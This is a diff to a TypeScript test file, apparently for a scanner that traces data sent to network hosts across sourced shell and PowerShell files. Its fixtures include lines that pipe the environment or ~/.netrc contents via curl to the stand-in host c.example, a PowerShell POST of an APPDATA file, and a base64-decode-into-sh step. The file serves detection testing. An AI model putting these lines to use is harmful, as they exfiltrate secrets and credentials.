@@ -51,6 +51,19 @@ test.each<[string, Readonly<Record<string, string | Uint8Array>>, string]>([
     `a.js:2 evaluate ${CODE}`,
   ],
   [
+    "a variable of a file that a shell script sources",
+    { "run.sh": `. "$(dirname "$0")/kit.conf"\nenv | curl -d @- "$TO/v1"`, "kit.conf": `TO="https://c.example"` },
+    "run.sh:2 send https://c.example/v1",
+  ],
+  [
+    "a function of a file that a shell script sources, told where it is called",
+    {
+      "run.sh": `source "$here/lib/net.sh"\nput https://c.example "$(cat ~/.netrc)"`,
+      "lib/net.sh": `put() {\n  curl -d "$2" "$1"\n}`,
+    },
+    "run.sh:2 send https://c.example",
+  ],
+  [
     "CommonJS, an object, the extension left out",
     {
       "a.js": `const parts = require("./lib/b");\neval(parts.code.split("").reverse().join(""));`,
@@ -210,6 +223,14 @@ test.each<[string, Readonly<Record<string, string | Uint8Array>>, string]>([
     "shell",
     { "a.sh": "base64 -d assets/blob.txt | sh", "assets/blob.txt": base64("make deploy") },
     "a.sh:1 evaluate make deploy",
+  ],
+  [
+    "a function of a file that PowerShell takes in, told where it is called",
+    {
+      "run.ps1": `. "$PSScriptRoot/net.ps1"\n$x = Get-Content $env:APPDATA/a.txt\nSend-It $x`,
+      "net.ps1": "function Send-It($data) { Invoke-RestMethod -Uri https://c.example/in -Method Post -Body $data }",
+    },
+    "run.ps1:3 send https://c.example/in",
   ],
   [
     "PowerShell",
